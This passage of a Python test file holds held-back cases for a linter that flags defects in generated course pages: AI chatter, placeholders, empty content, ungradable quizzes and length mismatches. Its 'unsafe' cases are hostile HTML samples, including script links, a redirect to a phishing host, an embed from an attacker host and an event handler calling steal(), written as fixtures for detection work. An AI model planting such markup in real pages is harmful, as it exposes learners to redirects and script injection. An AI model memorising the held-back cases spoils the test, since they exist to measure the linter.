            "Community", p("Feel free to ask questions in the course forum; the tutors answer within a day.")
        ),
        held=True,
    ),
    fine(
        "hb_fine_citation_brackets",
        "history_school",
        html(
            "Evidence",
            p(
                "One inspector wrote that the children were 'worked beyond their strength' [1]. The spelling is original [sic]."
            ),
        ),
        held=True,
    ),
    fine(
        "hb_fine_es_img_alt",
        "es_historia",
        html(
            "Cartel de 1931",
            '<figure><img src="/static/cartel.png" alt="Cartel electoral de 1931 con la bandera tricolor"></figure>',
        ),
        held=True,
    ),
    fine(
        "hb_fine_video_component",
        "de_physik",
        Unit("Versuch im Video", (Page(video="https://www.youtube.com/watch?v=xyz123", title="Versuch"),)),
        held=True,
    ),
    fine(
        "hb_fine_usb_here",
        "fr_securite",
        html("Clés USB", p("Never insert a USB key here or anywhere else if you found it in the car park.")),
        held=True,
    ),
    fine(
        "hb_fine_answer_here",
        "pt_matematica",
        html("Atividade", p("Write your answer here and compare with your partner: 2/4 or 1/2?")),
        held=True,
    ),
    fine(
        "hb_fine_coming_soon_quoted",
        "ux_writing",
        html("Empty states", p('Avoid a bare "Coming soon" banner: say what will appear and when.')),
        held=True,
    ),
    fine(
        "hb_fine_knowledge_update_blockquote",
        "ai_literacy",
        html(
            "Dates",
            "<blockquote>As of my last update in 2023, the limit was 20 files.</blockquote>"
            + p("Always check dates the assistant gives."),
        ),
        held=True,
    ),
    fine(
        "hb_fine_loncapa_grader",
        "python_bootcamp",
        Unit(
            "Check: doubling",
            (
                Page(
                    '<problem><script type="loncapa/python">\ndef check(expect, ans):\n    return ans.strip() == "14"\n</script><customresponse cfn="check"><p>What is double 7?</p><textline size="10"/></customresponse></problem>',
                    platform=True,
                ),
            ),
        ),
        held=True,
    ),
    fine(
        "hb_fine_length_sessions_90",
        "leadership",
        held=True,
        audience_override="New leads. Two 90-minute sessions a week for five weeks.",
        size=14,
    ),
    fine(
        "hb_fine_length_es_media_hora",
        "es_excel",
        held=True,
        audience_override="Administrativos. Media hora al día durante cuatro semanas.",
        size=10,
    ),
    fine(
        "hb_fine_length_de_semester",
        "de_physik",
        held=True,
        audience_override="Klasse 8. Zwei Stunden pro Woche über ein Semester.",
        size=28,
    ),
    fine(
        "hb_fine_length_pt_aulas",
        "pt_matematica",
        held=True,
        audience_override="Alunos de 11 anos. Quatro semanas, com duas aulas de uma hora por semana.",
        size=8,
    ),
    fine(
        "hb_fine_length_afternoon",
        "history_school",
        held=True,
        audience_override="Year 9 pupils. One afternoon a week for six weeks.",
        size=16,
    ),
    fine(
        "hb_fine_unreadable_shifts",
        "safety_onboarding",
        held=True,
        audience_override="New operatives; they fit the course around their shifts.",
        expect_warnings=frozenset({"length_unchecked"}),
    ),
    fine(
        "hb_fine_unreadable_es",
        "es_historia",
        held=True,
        audience_override="Alumnado de Bachillerato. Sin horario fijo: cada persona avanza a su ritmo.",
        expect_warnings=frozenset({"length_unchecked"}),
    ),
]

# ---------------------------------------------------------------------------------------------
# Held-back B: written after the last change to the rules and run once, to measure them.
# ---------------------------------------------------------------------------------------------
HELD_BACK_B: list[Case] = [
    defect(
        "hb2_chatter_below_revised",
        "excel_hr",
        "chatter",
        html(
            "Paste special",
            p("Below is the revised lesson with shorter sentences.")
            + p("Paste Special lets you paste values only."),
        ),
        held=True,
    ),
    defect(
        "hb2_chatter_shall_i",
        "history_school",
        "chatter",
        html(
            "Luddites",
            p("The Luddites broke machines they blamed for low wages.")
            + p("Shall I continue with a lesson on the Chartists?"),
        ),
        held=True,
    ),
    defect(
        "hb2_chatter_training_data",
        "ai_literacy",
        "chatter",
        html(
            "Sources",
            p("My training data only goes up to a certain date, so some tools named here may have changed."),
        ),
        held=True,
    ),
    defect(
        "hb2_chatter_es_quieres",
        "es_historia",
        "chatter",
        html(
            "El voto femenino",
            p("En 1931 se aprobó el sufragio femenino.")
            + p("¿Quieres que prepare también un esquema para repasar?"),
        ),
        held=True,
    ),
    defect(
        "hb2_chatter_fr_nhesitez",
        "fr_fle",
        "chatter",
        html(
            "Les courses",
            p("Au marché, on dit « Je voudrais un kilo de pommes ».")
            + p("N'hésitez pas à me demander d'autres exemples !"),
        ),
        held=True,
    ),
    defect(
        "hb2_chatter_de_frage",
        "de_physik",
        "chatter",
        html("Stromstärke", p("Sehr gute Frage! Die Stromstärke misst man mit dem Amperemeter in Reihe.")),
        held=True,
    ),
    defect(
        "hb2_chatter_pt_sou",
        "pt_matematica",
        "chatter",
        html(
            "Reta numérica",
            p("Sou um modelo de linguagem, mas posso explicar a reta numérica passo a passo."),
        ),
        held=True,
    ),
    defect(
        "hb2_chatter_title_es",
        "es_excel",
        "chatter",
        html(
            "¡Claro! Aquí tienes la unidad de gráficos", p("Selecciona los datos y elige Insertar gráfico.")
        ),
        held=True,
    ),
    defect(
        "hb2_placeholder_bracket_link",
        "leadership",
        "placeholder",
        html("Further reading", p("Read the HR guide on one-to-ones: [link to intranet page].")),
        held=True,
    ),
    defect(
        "hb2_placeholder_coming_soon_upper",
        "safety_onboarding",
        "placeholder",
        html("Chemical storage", "<h3>Chemical storage</h3>" + p("COMING SOON")),
        held=True,
    ),
    defect(
        "hb2_placeholder_fr_crochets",
        "fr_securite",
        "placeholder",
        html(
            "Contacts", p("En cas d'incident, appelez le [numéro à insérer] ou écrivez à [adresse e-mail].")
        ),
        held=True,
    ),
    defect(
        "hb2_placeholder_de_folgt",
        "de_kunden",
        "placeholder",
        html("Eskalation", p("Text folgt.")),
        held=True,
    ),
    defect(
        "hb2_placeholder_pt_inserir",
        "pt_vendas",
        "placeholder",
        html("Estudo de caso", p("Inserir aqui o texto do estudo de caso.")),
        held=True,
    ),
    defect(
        "hb2_placeholder_tbd_title",
        "python_bootcamp",
        "placeholder",
        html(
            "Project brief (TBD)",
            p("Pick a dataset you care about and describe three questions you want to answer."),
        ),
        held=True,
    ),
    defect(
        "hb2_empty_figure_no_alt",
        "ux_writing",
        "empty",
        html("Layout grid", '<figure><img src="/static/grid.png" alt=""><figcaption></figcaption></figure>'),
        held=True,
    ),
    defect(
        "hb2_empty_whitespace_entities",
        "de_kunden",
        "empty",
        html("Notizen", "<p>&nbsp;&nbsp;</p><br><p>\u00a0</p>"),
        held=True,
    ),
    defect("hb2_empty_unit_pt", "pt_vendas", "empty", Unit("Objeção de preço"), held=True),
    defect(
        "hb2_ungradable_option_no_answer",
        "fr_fle",
        "ungradable",
        raw(
            "Quiz : verbes",
            "<problem><optionresponse><p>Je ___ au marché.</p><optioninput options=\"('vais','va')\" correct=\"\"/></optionresponse></problem>",
        ),
        held=True,
    ),
    defect(
        "hb2_ungradable_root",
        "excel_hr",
        "ungradable",
        raw(
            "Quiz: sorting",
            '<multiplechoiceresponse><choicegroup><choice correct="true">A to Z</choice></choicegroup></multiplechoiceresponse>',
        ),
        held=True,
    ),
    defect(
        "hb2_unsafe_onclick",
        "leadership",
        "unsafe",
        raw(
            "Checklist",
            "<p onclick=\"location='https://x.example'\">Click to open the one-to-one checklist.</p>",
        ),
        held=True,
    ),
    defect(
        "hb2_unsafe_data_link",
        "ai_literacy",
        "unsafe",
        raw(
            "Download",
            '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Download the prompt sheet</a></p>',
        ),
        held=True,
    ),
    defect(
        "hb2_length_fortnight",
        "safety_onboarding",
        "length",
        held=True,
        audience_override="New operatives. Fifteen minutes a day for a fortnight.",
        size=15,
    ),
    defect(
        "hb2_length_de_tag",
        "de_physik",
        "length",
        held=True,
        audience_override="Klasse 8. Ein eintägiger Workshop.",
        size=40,
    ),
    defect(
        "hb2_length_fr_soirees",
        "fr_securite",
        "length",
        held=True,
        audience_override="Tous les salariés. Une soirée par semaine pendant deux mois.",
        size=90,
    ),
    fine(
        "hb2_fine_here_is_your_badge",
        "safety_onboarding",
        html("Your badge", p("Here is your badge policy in one line: wear it where it can be seen.")),
        held=True,
    ),
    fine(
        "hb2_fine_as_a_model",
        "ai_literacy",
        html(
            "How it works",
            p(
                "Trained as a language model, the assistant predicts the next word; that is why it can sound sure and be wrong."
            ),
        ),
        held=True,
    ),
    fine(
        "hb2_fine_kbd",
        "excel_hr",
        html(
            "Shortcuts",
            p(
                "Press <kbd>Ctrl</kbd>+<kbd>Shift</kbd>+<kbd>L</kbd> to add filters. The cell shows <samp>TBD</samp> until the supplier confirms."
            ),
        ),
        held=True,
    ),
    fine(
        "hb2_fine_es_todo_mayus",
        "es_excel",
        html("Resumen", p("Todo listo: guarda el archivo y envíalo a tu responsable.")),
        held=True,
    ),
    fine(
        "hb2_fine_de_aufgabe_ergaenzen",
        "de_physik",
        html("Lückentext", p("Ergänze den Lückentext: Die Einheit der Spannung ist ___.")),
        held=True,
    ),
    fine(
        "hb2_fine_pt_video_url",
        "pt_vendas",
        Unit(
            "Simulação em vídeo",
            (
                Page(video="https://player.vimeo.com/video/123456", title="Simulação"),
                Page(p("Assista e anote as perguntas abertas que a vendedora usa.")),
            ),
        ),
        held=True,
    ),
    fine(
        "hb2_fine_length_lunch_fr",
        "fr_securite",
        held=True,
        audience_override="Tous les salariés. Une pause déjeuner par semaine pendant deux mois.",
        size=6,
    ),
    fine(
        "hb2_fine_length_weekday_evening",
        "leadership",
        held=True,
        audience_override="New leads. Every Tuesday evening for two months.",
        size=16,
    ),
]

# ---------------------------------------------------------------------------------------------
# Held-back C: written after the rules were final (on the shared learner-time reader), run once.
# ---------------------------------------------------------------------------------------------
HELD_BACK_C: list[Case] = [
    defect(
        "hb3_chatter_of_course_below",
        "excel_hr",
        "chatter",
        html(
            "Pivot-free summaries",
            p("Of course! Below you'll find the lesson on SUMIF summaries.")
            + p("SUMIF adds the amounts that match one condition."),
        ),
        held=True,
    ),
    defect(
        "hb3_chatter_apologize",
        "python_bootcamp",
        "chatter",
        html(
            "Tuples",
            p("I apologize for the confusion earlier. Here is the corrected lesson on tuples.")
            + p("A tuple cannot be changed after it is made."),
        ),
        held=True,
    ),
    defect(
        "hb3_chatter_developed_by",
        "ai_literacy",
        "chatter",
        html(
            "Privacy",
            p("As an AI developed by a large company, I cannot see your files unless you paste them."),
        ),
        held=True,
    ),
    defect(
        "hb3_chatter_sure_thing",
        "leadership",
        "chatter",
        html("Saying no", p("Sure thing! Let's dive into how a new lead can say no to extra work.")),
        held=True,
    ),
    defect(
        "hb3_chatter_es_a_continuacion",
        "es_historia",
        "chatter",
        html(
            "La reforma agraria",
            p("¡Por supuesto! A continuación te presento la lección sobre la reforma agraria."),
        ),
        held=True,
    ),
    defect(
        "hb3_chatter_fr_proposition",
        "fr_securite",
        "chatter",
        html(
            "Le télétravail",
            p("Voici une proposition de leçon sur la sécurité en télétravail, comme demandé."),
        ),
        held=True,
    ),
    defect(
        "hb3_chatter_de_gerne_erstelle",
        "de_kunden",
        "chatter",
        html("Schwierige Kunden", p("Gerne erstelle ich dir eine Lektion über schwierige Kundengespräche.")),
        held=True,
    ),
    defect(
        "hb3_chatter_pt_abaixo",
        "pt_vendas",
        "chatter",
        html("Rapport", p("Claro! Abaixo está o conteúdo da aula sobre rapport com o cliente.")),
        held=True,
    ),
    defect(
        "hb3_chatter_note_as_an_ai",
        "history_school",
        "chatter",
        html(
            "Living conditions",
            p("Note: as an AI, I can't verify these population figures.")
            + p("Manchester grew from 25,000 to 300,000 people."),
        ),
        held=True,
    ),
    defect(
        "hb3_placeholder_angle",
        "safety_onboarding",
        "placeholder",
        html("Emergency contacts", p("In an emergency call <<SITE_PHONE>> and tell your supervisor.")),
        held=True,
    ),
    defect(
        "hb3_placeholder_percent_var",
        "leadership",
        "placeholder",
        html("Welcome", p("Hi %FIRST_NAME%, welcome to the programme.")),
        held=True,
    ),
    defect(
        "hb3_placeholder_xx_percent",
        "pt_vendas",
        "placeholder",
        html("Metas", p("A meta do trimestre é aumentar a conversão em XX%.")),
        held=True,
    ),
    defect(
        "hb3_placeholder_date_caps",
        "history_school",
        "placeholder",
        html("Museum visit", p("The museum visit is on [DATE]; permission slips are due a week before.")),
        held=True,
    ),
    defect(
        "hb3_placeholder_own_example",
        "ux_writing",
        "placeholder",
        html(
            "Success messages",
            p("A success message confirms what happened.") + p("Add your own example here."),
        ),
        held=True,
    ),
    defect(
        "hb3_placeholder_video_to_come",
        "safety_onboarding",
        "placeholder",
        html("Racking inspection", p("Video to come.")),
        held=True,
    ),
    defect(
        "hb3_placeholder_es_enlace",
        "es_excel",
        "placeholder",
        html("Recursos", p("Descarga la plantilla aquí: [Insertar enlace].")),
        held=True,
    ),
    defect(
        "hb3_placeholder_fr_todo",
        "fr_fle",
        "placeholder",
        html("Au restaurant", p("TODO : ajouter le dialogue au restaurant.")),
        held=True,
    ),
    defect(
        "hb3_placeholder_de_lorem",
        "de_physik",
        "placeholder",
        html("Parallelschaltung", p("Lorem ipsum dolor sit amet, consetetur sadipscing elitr.")),
        held=True,
    ),
    defect("hb3_empty_hr", "excel_hr", "empty", html("Protecting sheets", "<hr>"), held=True),
    defect(
        "hb3_empty_link",
        "leadership",
        "empty",
        html("Resources", '<p><a href="/static/agenda.pdf"></a></p>'),
        held=True,
    ),
    defect(
        "hb3_ungradable_numerical_blank",
        "de_physik",
        "ungradable",
        raw(
            "Rechnen",
            '<problem><numericalresponse answer=""><p>R = 10 Ohm, I = 2 A. U = ?</p><formulaequationinput/></numericalresponse></problem>',
        ),
        held=True,
    ),
    defect(
        "hb3_ungradable_formula_no_samples",
        "python_bootcamp",
        "ungradable",
        raw(
            "Formula",
            '<problem><formularesponse answer="2*x"><p>Double x.</p><formulaequationinput/></formularesponse></problem>',
        ),
        held=True,
    ),
    defect(
        "hb3_unsafe_srcdoc",
        "ux_writing",
        "unsafe",
        raw(
            "Preview",
            '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><p>Preview the form.</p>',
        ),
        held=True,
    ),
    defect(
        "hb3_unsafe_vbscript",
        "history_school",
        "unsafe",
        raw("Archive", '<p>See the <a href="vbscript:msgbox(1)">archive</a>.</p>'),
        held=True,
    ),
    defect(
        "hb3_unsafe_meta_refresh",
        "excel_hr",
        "unsafe",
        raw(
            "Redirect",
            '<meta http-equiv="refresh" content="0;url=https://phish.example/"><p>Loading the template.</p>',
        ),
        held=True,
    ),
    defect(
        "hb3_length_webinar",
        "ai_literacy",
        "length",
        held=True,
        audience_override="Office staff. A one-hour webinar.",
        size=10,
    ),
    defect(
        "hb3_length_es_hora_y_media",
        "es_excel",
        "length",
        held=True,
        audience_override="Administrativos. Dos sesiones de hora y media a la semana durante un mes.",
        size=70,
    ),
    defect(
        "hb3_length_de_short",
        "de_kunden",
        "length",
        held=True,
        audience_override="Neue Mitarbeitende. 3 Stunden wöchentlich über zwei Monate.",
        size=4,
    ),
    fine(
        "hb3_fine_reading_list",
        "history_school",
        html(
            "Further reading",
            p("Here is your reading list for the holidays: two novels and one museum website."),
        ),
        held=True,
    ),
    fine(
        "hb3_fine_great_question_supplier",
        "excel_hr",
        html("Talking to suppliers", p("A great question to ask a supplier is when the invoice was sent.")),
        held=True,
    ),
    fine(
        "hb3_fine_ai_researcher",
        "ai_literacy",
        html("Who builds them", p("As an AI researcher, Dr Lee studies why assistants invent citations.")),
        held=True,
    ),
    fine(
        "hb3_fine_lorem_in_css_code",
        "ux_writing",
        html(
            "Filler in prototypes",
            p("Prototype tools fill boxes like this:")
            + "<pre><code>&lt;p&gt;Lorem ipsum dolor sit amet&lt;/p&gt;</code></pre>"
            + p("Replace it before any user test."),
        ),
        held=True,
    ),
    fine(
        "hb3_fine_pm_status_values",
        "leadership",
        html(
            "Tracking actions",
            p("Give every action one of four statuses: Open, Blocked, TBD or Done, and review them weekly."),
        ),
        held=True,
    ),
    fine(
        "hb3_fine_we_hope",
        "safety_onboarding",
        html("Thank you", p("We hope this course helps you go home safe every day.")),
        held=True,
    ),
    fine(
        "hb3_fine_de_quote",
        "de_kunden",
        html(
            "Chatbots im Service",
            p(
                "Ein schlecht eingestellter Bot antwortet etwa: „Als KI-Sprachmodell kann ich Ihnen nicht helfen.“ Das frustriert Kunden."
            ),
        ),
        held=True,
    ),
    fine(
        "hb3_fine_length_bootcamp",
        "python_bootcamp",
        held=True,
        audience_override="Career changers. A 3-day bootcamp, full days.",
        size=20,
    ),
    fine(
        "hb3_fine_length_es_trimestre",
        "es_historia",
        held=True,
        audience_override="Alumnado de Bachillerato. Una hora semanal durante un trimestre.",
        size=12,
    ),
    fine(
        "hb3_fine_unreadable_de",
        "de_physik",
        held=True,
        audience_override="Klasse 8. Dauer: flexibel, je nach Stundenplan.",
        expect_warnings=frozenset({"length_unchecked"}),
    ),
]

# ---------------------------------------------------------------------------------------------
# Held-back D: written after the last rule change of this session and run once, untouched.
# ---------------------------------------------------------------------------------------------
HELD_BACK_D: list[Case] = [
    defect(
        "hb4_chatter_absolutely_comma",
        "excel_hr",
        "chatter",
        html(
            "Mail merge",
            p("Absolutely, here's a beginner-friendly lesson on mail merge.")
            + p("Start from the supplier list."),
        ),
        held=True,
    ),
    defect(
        "hb4_chatter_find_useful",
        "leadership",
        "chatter",
        html(
            "Coaching",
            p("Coaching means asking before telling.")
            + p("I hope you find this lesson useful! Feel free to reach out if you need more examples."),
        ),
        held=True,
    ),
    defect(
        "hb4_chatter_below_structured",
        "history_school",
        "chatter",
        html("Causes", p("Below is a structured lesson plan covering the three causes of urban growth.")),
        held=True,
    ),
    defect(
        "hb4_chatter_adjust_difficulty",
        "python_bootcamp",
        "chatter",
        html(
            "Comprehensions",
            p("A list comprehension builds a list in one line.")
            + p("Let me know if you'd like me to adjust the difficulty."),
        ),
        held=True,
    ),
    defect(
        "hb4_chatter_tone_requested",
        "ux_writing",
        "chatter",
        html("Friendly tone", p("This lesson has been written in a friendly tone, as you requested.")),
        held=True,
    ),
    defect(
        "hb4_chatter_okay_here",
        "safety_onboarding",
        "chatter",
        html("Cooling off", p("Okay, here is the unit about working in the cold store.")),
        held=True,
    ),
    defect(
        "hb4_chatter_es_resulte_util",
        "es_excel",
        "chatter",
        html(
            "Validación de datos",
            p("La validación evita errores de escritura.") + p("Espero que esta lección te resulte útil."),
        ),
        held=True,
    ),
    defect(
        "hb4_chatter_es_asistente",
        "es_historia",
        "chatter",
        html("Fuentes", p("Como asistente de IA, no tengo acceso a los archivos de tu centro.")),
        held=True,
    ),
    defect(
        "hb4_chatter_fr_ajustements",
        "fr_securite",
        "chatter",
        html(
            "Les appareils mobiles",
            p("Verrouillez toujours votre téléphone.")
            + p("N'hésitez pas si vous avez besoin d'ajustements."),
        ),
        held=True,
    ),
    defect(
        "hb4_chatter_fr_assistant",
        "fr_fle",
        "chatter",
        html(
            "À la gare",
            p("En tant qu'assistant, je ne peux pas acheter de billet, mais voici le vocabulaire utile."),
        ),
        held=True,
    ),
    defect(
        "hb4_chatter_de_vorschlag",
        "de_kunden",
        "chatter",
        html(
            "Reklamationen",
            p("Hier ist ein Vorschlag für die Lektion zum Thema Reklamationen:") + p("Hören Sie zuerst zu."),
        ),
        held=True,
    ),
    defect(
        "hb4_chatter_de_hilfreich",
        "de_physik",
        "chatter",
        html(
            "Energie",
            p("Energie wird in Joule gemessen.") + p("Ich hoffe, diese Lektion ist hilfreich für dich!"),
        ),
        held=True,
    ),
    defect(
        "hb4_chatter_pt_seja_util",
        "pt_vendas",
        "chatter",
        html(
            "Follow-up",
            p("Faça o follow-up em até 48 horas.") + p("Espero que esta aula seja útil para sua equipe!"),
        ),
        held=True,
    ),
    defect(
        "hb4_chatter_pt_sugestao",
        "pt_matematica",
        "chatter",
        html(
            "Frações impróprias",
            p("Aqui está uma sugestão de aula sobre frações impróprias:")
            + p("Uma fração imprópria é maior que 1."),
        ),
        held=True,
    ),
    defect(
        "hb4_placeholder_trainer_caps",
        "leadership",
        "placeholder",
        html("Kick-off", p("Presenter: [TRAINER NAME]. Bring one current team challenge.")),
        held=True,
    ),
    defect(
        "hb4_placeholder_question_date",
        "excel_hr",
        "placeholder",
        html("Month-end", p("Deadline for the first log: ??/??/2025.")),
        held=True,
    ),
    defect(
        "hb4_placeholder_image_paren",
        "ux_writing",
        "placeholder",
        html(
            "Navigation",
            p("Tabs work for three to five sections.") + p("(image placeholder: tab bar example)"),
        ),
        held=True,
    ),
    defect(
        "hb4_placeholder_x_days",
        "safety_onboarding",
        "placeholder",
        html("Reporting deadlines", p("Report a near miss within [X] days of the event.")),
        held=True,
    ),
    defect(
        "hb4_placeholder_replace_text",
        "leadership",
        "placeholder",
        html("Welcome from your sponsor", p("Replace this text with your welcome message.")),
        held=True,
    ),
    defect(
        "hb4_placeholder_es_por_confirmar",
        "es_excel",
        "placeholder",
        html("Evaluación", p("Fecha límite: por confirmar.")),
        held=True,
    ),
    defect(
        "hb4_placeholder_fr_xxxx",
        "fr_securite",
        "placeholder",
        html("Votre référent", p("Nom du référent sécurité : XXXX")),
        held=True,
    ),
    defect(
        "hb4_placeholder_de_nn",
        "de_kunden",
        "placeholder",
        html("Ansprechpartner", p("Ansprechpartner: N.N.")),
        held=True,
    ),
    defect(
        "hb4_placeholder_pt_a_confirmar",
        "pt_vendas",
        "placeholder",
        html("Workshop presencial", p("Data: a confirmar.")),
        held=True,
    ),
    defect(
        "hb4_empty_span", "excel_hr", "empty", html("Absolute references", "<p><span></span></p>"), held=True
    ),
    defect(
        "hb4_empty_list",
        "history_school",
        "empty",
        html("Key dates", "<ul><li></li><li></li></ul>"),
        held=True,
    ),
    defect(
        "hb4_empty_video_and_html",
        "safety_onboarding",
        "empty",
        Unit("Pallet trucks", (Page(" "), Page(video="", title="Pallet trucks"))),
        held=True,
    ),
    defect(
        "hb4_ungradable_two_radio",
        "fr_fle",
        "ungradable",
        raw(
            "Quiz : articles",
            '<problem><multiplechoiceresponse><p>___ pomme</p><choicegroup type="MultipleChoice"><choice correct="true">une</choice><choice correct="true">un</choice></choicegroup></multiplechoiceresponse></problem>',
        ),
        held=True,
    ),
    defect(
        "hb4_ungradable_blank_string",
        "leadership",
        "ungradable",
        raw(
            "Quiz: SBI",
            '<problem><stringresponse answer=""><p>What does the I in SBI stand for?</p><textline/></stringresponse></problem>',
        ),
        held=True,
    ),
    defect(
        "hb4_unsafe_mouseover",
        "ux_writing",
        "unsafe",
        raw(
            "Hover states",
            '<p>Hover states matter.</p><img src="/static/hover.png" alt="hover" onmouseover="steal()">',
        ),
        held=True,
    ),
    defect(
        "hb4_unsafe_spaced_js",
        "es_excel",
        "unsafe",
        raw("Plantilla", '<p><a href=" javascript:alert(1)">Descarga la plantilla</a></p>'),
        held=True,
    ),
    defect(
        "hb4_unsafe_embed",
        "de_physik",
        "unsafe",
        raw("Simulation", '<p>Simulation:</p><embed src="https://evil.example/sim.swf">'),
        held=True,
    ),
    defect(
        "hb4_length_semester",
        "history_school",
        "length",
        held=True,
        audience_override="Year 9 pupils. 90 minutes a week for a semester.",
        size=120,
    ),
    defect(
        "hb4_length_three_sessions",
        "leadership",
        "length",
        held=True,
        audience_override="New leads. Three 2-hour sessions in total.",
        size=30,
    ),
    defect(
        "hb4_length_es_cuatro_sesiones",
        "es_excel",
        "length",
        held=True,
        audience_override="Administrativos. Cuatro sesiones de dos horas en total.",
        size=40,
    ),
    fine(
        "hb4_fine_first_task",
        "excel_hr",
        html("Day one", p("Here's your first task: open the log and find last month's largest invoice.")),
        held=True,
    ),
    fine(
        "hb4_fine_ask_manager",
        "safety_onboarding",
        html(
            "Demos",
            p("Feel free to ask your manager for a demo of the pallet truck before your first shift."),
        ),
        held=True,
    ),
    fine(
        "hb4_fine_an_ai_language_model_such",
        "ai_literacy",
        html(
            "How they write",
            p(
                "An AI language model such as the one your team uses predicts the next word from the words before it."
            ),
        ),
        held=True,
    ),
    fine(
        "hb4_fine_certainly_the",
        "python_bootcamp",
        html(
            "Off-by-one",
            p("Certainly the most common loop mistake is starting or stopping one item too early."),
        ),
        held=True,
    ),
    fine(
        "hb4_fine_sure_you_can",
        "excel_hr",
        html(
            "Shortcuts instead",
            p("Sure, you can use the menus; keyboard shortcuts are simply faster once learned."),
        ),
        held=True,
    ),
    fine(
        "hb4_fine_es_claro_que_si",
        "es_excel",
        html(
            "Registro formal",
            p(
                "¡Claro que sí! es una respuesta informal; en un correo a un proveedor escribe «Por supuesto»."
            ),
        ),
        held=True,
    ),
    fine(
        "hb4_fine_fr_bien_sur_virgule",
        "fr_securite",
        html("Partage", p("Bien sûr, un mot de passe ne se partage jamais, même avec un collègue.")),
        held=True,
    ),
    fine(
        "hb4_fine_todo_list",
        "leadership",
        html(
            "Planning your week",
            p("Keep a short to-do list and move anything older than a week to your one-to-one agenda."),
        ),
        held=True,
    ),
    fine(
        "hb4_fine_placeholder_concept",
        "ux_writing",
        html(
            "Input hints",
            p(
                "A placeholder tells people what to type, such as an example address. It disappears when they start typing, so never put the label there."
            ),
        ),
        held=True,
    ),
    fine(
        "hb4_fine_pt_lorem_topic",
        "pt_vendas",
        html(
            "Propostas comerciais",
            p(
                "O lorem ipsum é um texto de preenchimento usado em layouts; nunca envie uma proposta com ele."
            ),
        ),
        held=True,
    ),
    fine(
        "hb4_fine_length_workshops",
        "ux_writing",
        held=True,
        audience_override="Product designers. Six 90-minute workshops.",
        size=9,
    ),
    fine(
        "hb4_fine_length_fr_demi_journees",
        "fr_securite",
        held=True,
        audience_override="Tous les salariés. Deux demi-journées.",
        size=7,
    ),
    fine(
        "hb4_fine_unreadable_shift",
        "safety_onboarding",
        held=True,
        audience_override="New operatives; they join when their shift pattern allows.",
        expect_warnings=frozenset({"length_unchecked"}),
    ),
]

# ---------------------------------------------------------------------------------------------
# Held-back E: written after the rules were frozen for this session and run once, untouched.
# ---------------------------------------------------------------------------------------------
HELD_BACK_E: list[Case] = [
    defect(
        "hb5_chatter_heres_an_overview",
        "excel_hr",
        "chatter",
        html(
            "Freeze panes",
            p("Great! Here's an overview of freezing panes that you can drop straight into your course."),
        ),
        held=True,
    ),
    defect(
        "hb5_chatter_as_requested_en",
        "history_school",
        "chatter",
        html(
            "The Great Exhibition",
            p("As requested, I've kept the reading level at Year 9.")
            + p("The Great Exhibition opened in 1851."),
        ),
        held=True,
    ),
    defect(
        "hb5_chatter_knowledge_limits",
        "ai_literacy",
        "chatter",
        html(
            "New tools",
            p("Please note that my knowledge only extends to early 2024, so newer tools are not covered."),
        ),
        held=True,
    ),
    defect(
        "hb5_chatter_want_quiz",
        "python_bootcamp",
        "chatter",
        html(
            "Sets",
            p("A set keeps each value once.")
            + p("Do you want me to add a short quiz at the end of this unit?"),
        ),
        held=True,
    ),
    defect(
        "hb5_chatter_es_aqui_va",
        "es_historia",
        "chatter",
        html(
            "La Constitución",
            p("¡Perfecto! Aquí va el contenido de la unidad sobre la Constitución de 1931."),
        ),
        held=True,
    ),
    defect(
        "hb5_chatter_es_puedo_ampliar",
        "es_excel",
        "chatter",
        html(
            "Tablas",
            p("Una tabla se amplía sola al añadir filas.")
            + p("Si lo necesitas, puedo ampliar esta sección con más ejemplos."),
        ),
        held=True,
    ),
    defect(
        "hb5_chatter_fr_voici_contenu",
        "fr_fle",
        "chatter",
        html("Chez le médecin", p("Avec plaisir ! Voici le contenu pour l'unité « Chez le médecin ».")),
        held=True,
    ),
    defect(
        "hb5_chatter_de_kann_gerne",
        "de_physik",
        "chatter",
        html(
            "Leistung",
            p("Leistung ist Energie pro Zeit.")
            + p("Ich kann gerne noch Übungsaufgaben ergänzen, wenn du möchtest."),
        ),
        held=True,
    ),
    defect(
        "hb5_chatter_pt_posso_adaptar",
        "pt_matematica",
        "chatter",
        html(
            "Problemas",
            p("Leia o problema duas vezes antes de calcular.")
            + p("Posso adaptar esta aula para o 5.º ano, se preferir."),
        ),
        held=True,
    ),
    defect(
        "hb5_placeholder_insert_name_here",
        "leadership",
        "placeholder",
        html("Your coach", p("Your coach for this programme is INSERT NAME HERE.")),
        held=True,
    ),
    defect(
        "hb5_placeholder_link_tbd",
        "ux_writing",
        "placeholder",
        html("Style guide", p("Read the style guide (link TBD) before the critique.")),
        held=True,
    ),
    defect(
        "hb5_placeholder_curly_single",
        "safety_onboarding",
        "placeholder",
        html("Site rules", p("Welcome to {site_name}. Hard hats are required past the yellow line.")),
        held=True,
    ),
    defect(
        "hb5_placeholder_es_xx",
        "es_excel",
        "placeholder",
        html("Presupuesto", p("El presupuesto anual es de XX.XXX euros.")),
        held=True,
    ),
    defect(
        "hb5_placeholder_fr_a_venir",
        "fr_securite",
        "placeholder",
        html("Quiz final", p("Quiz final : à venir.")),
        held=True,
    ),
    defect(
        "hb5_placeholder_de_tbd",
        "de_kunden",
        "placeholder",
        html("Termine", p("Termin für das Rollenspiel: TBD")),
        held=True,
    ),
    defect(
        "hb5_placeholder_pt_nome",
        "pt_vendas",
        "placeholder",
        html("Mentor", p("Seu mentor será o(a) [NOME DO MENTOR].")),
        held=True,
    ),
    defect(
        "hb5_empty_table",
        "excel_hr",
        "empty",
        html("Keyboard map", "<table><tr><td></td><td></td></tr></table>"),
        held=True,
    ),
    defect(
        "hb5_empty_decorative_only",
        "pt_matematica",
        "empty",
        html("Abertura", '<div><img src="/static/banner.png" alt=" "></div>'),
        held=True,
    ),
    defect(
        "hb5_ungradable_no_input",
        "history_school",
        "ungradable",
        raw(
            "Quiz: reformers",
            '<problem><stringresponse answer="Shaftesbury"><p>Which lord led the Ten Hours movement?</p></stringresponse></problem>',
        ),
        held=True,
    ),
    defect(
        "hb5_unsafe_style_tag",
        "leadership",
        "unsafe",
        raw("Agenda", "<style>body{display:none}</style><p>Agenda for your first one-to-one.</p>"),
        held=True,
    ),
    defect(
        "hb5_unsafe_base",
        "ai_literacy",
        "unsafe",
        raw(
            "Links", '<base href="https://attacker.example/"><p>See the <a href="policy.html">policy</a>.</p>'
        ),
        held=True,
    ),
    defect(
        "hb5_length_fr_court",
